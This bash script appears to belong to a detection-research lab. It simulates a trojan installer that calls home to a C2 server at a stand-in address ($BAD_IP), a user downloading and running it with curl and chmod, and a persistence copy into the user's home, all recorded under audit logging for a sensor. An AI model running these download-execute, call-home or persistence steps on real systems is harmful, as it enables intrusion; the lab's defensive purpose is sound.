#!/bin/bash
# Records the sample no-open. Run as root on a machine of your own; results in /opt/lab/out/no-open.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/lab.sh"
lab_begin "$here" desk-14 10.20.0.34 ""

install -d -o $OUT_UID "$RUN/attacker"
lab_agent_c "$RUN/attacker/setup" 993 who=/usr/bin/id where="/usr/bin/uname -a" \
  stay="/usr/bin/cp setup .setup.new && /usr/bin/mv .setup.new /home/kenji/.local-setup" clean="/usr/bin/rm -f setup"
lab_outside python3 "$RUN/c2.py" $BAD_IP 993 "$RUN/seen.json" 2900808 "LAB TROJAN installer call home" who where stay clean
lab_outside python3 -m http.server --bind $BAD_IP --directory "$RUN/attacker" 80

CALLS=$(echo $CALLS | tr ' ' '\n' | grep -vE 'open|creat')
lab_audit_on RAW 500 1
lab_noise_on 0.1
sleep 40
lab_terminal kenji <<TYPED
2 ls
2 cd Downloads
2 curl -s -o setup.part http://$BAD_IP/setup
2 mv setup.part setup
2 chmod +x setup
2 ./setup -d
12 ls
TYPED
sleep 34
lab_noise_off
lab_audit_off
python3 "$RUN/sensor.py" plain "$(ls "$RUN"/seen.json.* | head -1)" "$OUT/alert.json"
